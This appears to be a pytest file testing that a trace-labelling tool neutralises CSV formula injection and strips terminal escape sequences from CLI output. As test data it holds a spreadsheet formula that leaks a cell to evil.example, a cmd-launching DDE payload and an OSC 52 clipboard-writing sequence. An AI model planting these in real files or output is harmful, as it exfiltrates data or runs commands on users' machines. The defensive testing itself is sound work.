"""Injection outside the browser: CSV cells a spreadsheet would run as formulas, terminal escapes
in what the CLI prints, live links in notes and reports, and graph labels escaped for their
medium."""

from __future__ import annotations

import csv
import json

import pytest

from factories import example_trace, make_workspace
from viz_app.cli import main
from viz_app.text import csv_cell, csv_value

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
"""Text that a spreadsheet would evaluate, one per character OWASP lists."""


def test_csv_cell_puts_a_quote_before_text_a_spreadsheet_would_evaluate():
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
        assert csv_value(csv_cell(text)) == text


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert [csv_cell(v) for v in (-1, -0.5, 3, None, True)] == [-1, -0.5, 3, None, True]
    assert [csv_cell(v) for v in ("-1", "+0.5", "-2e3", "ok", "", "1-2")] == \
        ["-1", "+0.5", "-2e3", "ok", "", "1-2"]


def test_csv_cell_reads_back_exactly_text_that_starts_with_a_quote():
    assert csv_cell("'=x") == "''=x" and csv_value("''=x") == "'=x"
    assert csv_value(csv_cell("'plain")) == "'plain"


HOSTILE_ID = "=HYPERLINK(\"http://evil.example\",\"open\")"


@pytest.fixture
def hostile(tmp_path):
    """A workspace with a trace whose id, and a label whose reviewer and comment, are
    formulas."""
    ws = make_workspace(tmp_path, traces=[example_trace(HOSTILE_ID)])
    trace = ws.trace(HOSTILE_ID)
    ws.labels.save(trace, "task_outcome", "failure", "@reviewer", comment="-1+cmd|' /C calc'!A0")
    return ws


def _cells(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as found:
        return list(csv.DictReader(found))


def _starts_a_formula(cell: str) -> bool:
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(cell)  # a number is no formula
    except ValueError:
        return True
    return False


def test_the_csv_export_neutralises_every_text_cell(hostile, tmp_path):
    assert main(["labels", "export", "--format", "csv", "--db", hostile.settings.db_url,
                 "-o", str(tmp_path / "labels.csv")]) == 0
    [row] = _cells(tmp_path / "labels.csv")
    assert row["trace_id"] == "'" + HOSTILE_ID
    assert row["reviewer"] == "'@reviewer"
    assert row["comment"] == "'-1+cmd|' /C calc'!A0"
    assert row["reward"] == "-1.0"  # a number stays a number
    assert json.loads(row["value"]) == "failure"
    assert not [c for r in _cells(tmp_path / "labels.csv") for c in r.values()
                if _starts_a_formula(c)]


def test_the_rewards_csv_neutralises_every_text_cell(hostile, tmp_path):
    assert main(["labels", "export", "--format", "rewards", "--db", hostile.settings.db_url,
                 "-o", str(tmp_path / "rewards.csv")]) == 0
    [row] = _cells(tmp_path / "rewards.csv")
    assert row["trace_id"] == "'" + HOSTILE_ID
    assert row["reward"] == "-1.0" and row["reviewers"] == "1"
    assert not [c for c in row.values() if _starts_a_formula(c)]


def test_a_negative_answer_stays_json_in_the_csv(tmp_path):
    from factories import premature

    ws = make_workspace(tmp_path, traces=[premature()])
    trace = ws.trace(premature().trace_id)
    ws.labels.save(trace, "aggregation_quality", 1, "ann", "e12")
    ws.export("csv", tmp_path / "labels.csv")
    [row] = _cells(tmp_path / "labels.csv")
    assert (row["value"], row["reward"]) == ("1", "-1.0")


# -- terminal escapes ---------------------------------------------------------------------------

OSC52 = "\x1b]52;c;cHduZWQ=\x07"
"""An OSC 52 sequence: writes 'pwned' to the clipboard of a terminal that allows it."""
ANSI = "\x1b[2J\x1b[31m"
"""Clear the screen, then print red."""
TERMINAL_ID = "t" + OSC52 + ANSI + "x"
TERMINAL_AGENT = "orch" + OSC52 + ANSI
TERMINAL_REVIEWER = "mallory" + OSC52 + ANSI
TERMINAL_EVENT = "r" + OSC52


def terminal_trace() -> dict:
    """The example trace with escapes in its id, its orchestrator's name and the id of a return
    to an agent that never appears (which `analyze` warns about)."""
    from factories import example_dict

    raw = json.loads(json.dumps(example_dict()).replace('"orchestrator"',
                                                        json.dumps(TERMINAL_AGENT)))
    raw["trace_id"] = TERMINAL_ID
    last = max(float(e["t"]) for e in raw["events"])
    raw["events"].append({"id": TERMINAL_EVENT, "t": last + 1, "type": "return",
                          "agent": "planner_1", "to": "nobody" + ANSI})
    return raw


def assert_no_escape(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)


@pytest.fixture
def terminal_ws(tmp_path):
    """A workspace on the terminal-hostile trace (written to traces/t.json), labelled by ann
    and by a reviewer whose name holds escapes, who disagree."""
    folder = tmp_path / "traces"
    folder.mkdir()
    (folder / "t.json").write_text(json.dumps(terminal_trace()))
    ws = make_workspace(tmp_path, traces=[folder])
    trace = ws.trace(TERMINAL_ID)
    ws.labels.save(trace, "task_outcome", "success", "ann")
    ws.labels.save(trace, "task_outcome", "failure", TERMINAL_REVIEWER)
    return ws


def test_inspect_prints_no_escape_from_a_trace_id_or_an_agent_name(terminal_ws, capsys):
    assert main(["inspect", str(terminal_ws.settings.traces[0] / "t.json")]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "t\\x1b]52;c;cHduZWQ=\\x07" in out and "orch\\x1b]52" in out


def test_import_prints_no_escape_from_warnings_or_errors(terminal_ws, tmp_path, capsys):
    broken = tmp_path / f"broken{OSC52}.json"
    broken.write_text('{"trace_id": "x", "events": [')
    main(["import", str(terminal_ws.settings.traces[0] / "t.json"), str(broken),
          "--out-dir", str(tmp_path / "out")])
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "warning: return r\\x1b]52" in captured.err  # the warning is there, shown
    assert "broken\\x1b]52;c;cHduZWQ=\\x07.json" in captured.err  # so is the error


def test_validate_prints_no_escape_from_a_file_name(tmp_path, capsys):
    path = tmp_path / f"ok{ANSI}.json"
    path.write_text(json.dumps(terminal_trace()))
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "ok\\x1b[2J" in out


def test_labels_progress_prints_no_escape_from_a_trace_id(terminal_ws, capsys):
    assert main(["labels", "progress", "--db", terminal_ws.settings.db_url,
                 "--traces", str(terminal_ws.settings.traces[0])]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "t\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\x1b[31mx: " in out


def test_labels_agreement_prints_no_escape_from_a_reviewer_name(terminal_ws, capsys):
    assert main(["labels", "agreement", "--db", terminal_ws.settings.db_url]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "mallory\\x1b]52;c;cHduZWQ=\\x07" in out and "t\\x1b]52" in out


def test_labels_import_prints_no_escape_from_a_bad_record(terminal_ws, tmp_path, capsys):
    path = tmp_path / f"labels{ANSI}.jsonl"
    path.write_text(json.dumps({"trace_id": TERMINAL_ID, "event_id": TERMINAL_EVENT,
                                "question": "task_outcome", "value": "success",
                                "reviewer": TERMINAL_REVIEWER}) + "\n")
    assert main(["labels", "import", str(path), "--db", terminal_ws.settings.db_url,
                 "--traces", str(terminal_ws.settings.traces[0])]) == 1
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "nothing imported" in captured.err


def test_an_error_main_prints_has_no_escape(tmp_path, capsys):
    assert main(["inspect", str(tmp_path / f"missing{OSC52}.json")]) == 1
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "missing\\x1b]52" in captured.err


def test_report_prints_no_escape_from_a_trace_id(terminal_ws, tmp_path, capsys):
    assert main(["report", str(terminal_ws.settings.traces[0] / "t.json"),
                 "--db", terminal_ws.settings.db_url, "-o", str(tmp_path / "r.html")]) == 0
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "t\\x1b]52" in captured.out
